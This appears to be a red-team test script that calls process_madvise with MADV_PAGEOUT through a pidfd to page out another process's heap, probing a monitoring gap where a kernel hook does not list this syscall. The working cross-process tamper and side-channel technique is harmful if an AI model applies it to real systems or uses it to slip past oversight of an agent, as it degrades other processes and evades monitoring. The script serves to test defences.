"""Round 7: process_madvise(MADV_PAGEOUT) on the agent's heap through a pidfd.

Another process's memory, reached without ptrace, /proc or process_vm_*:
the agent's heap pages are reclaimed under it (a performance tamper and a
timing side channel).  The kernel gates it by the ptrace access check
(PTRACE_MODE_READ) plus CAP_SYS_NICE: the check issue 13 builds gap 2's
fentry hook on, reached here by a syscall it does not list.
"""

from __future__ import annotations

import ctypes
import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 7
EXPECT = ("L5",)
NR_PROCESS_MADVISE = 440
MADV_PAGEOUT = 21
PAGES = 4


class _IoVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


def run(args: dict[str, Any]) -> None:
    pid, addr = int(args["pid"]), int(args["addr"])
    size = PAGES * os.sysconf("SC_PAGE_SIZE")
    iov = _IoVec(addr, size)
    lc = rt.libc()
    c = ctypes.c_long
    t = rt.now()
    pidfd = rt.pidfd_open(pid)
    try:
        rc = lc.syscall(c(NR_PROCESS_MADVISE), c(pidfd), ctypes.byref(iov), c(1), c(MADV_PAGEOUT), c(0))
        err = ctypes.get_errno()
    finally:
        os.close(pidfd)
    rt.report(
        t,
        rc == size,
        f"process_madvise(MADV_PAGEOUT) of {size} B at {addr:#x}: "
        + (f"{rc} B advised" if rc >= 0 else os.strerror(err)),
    )


if __name__ == "__main__":
    rt.main(run, globals())
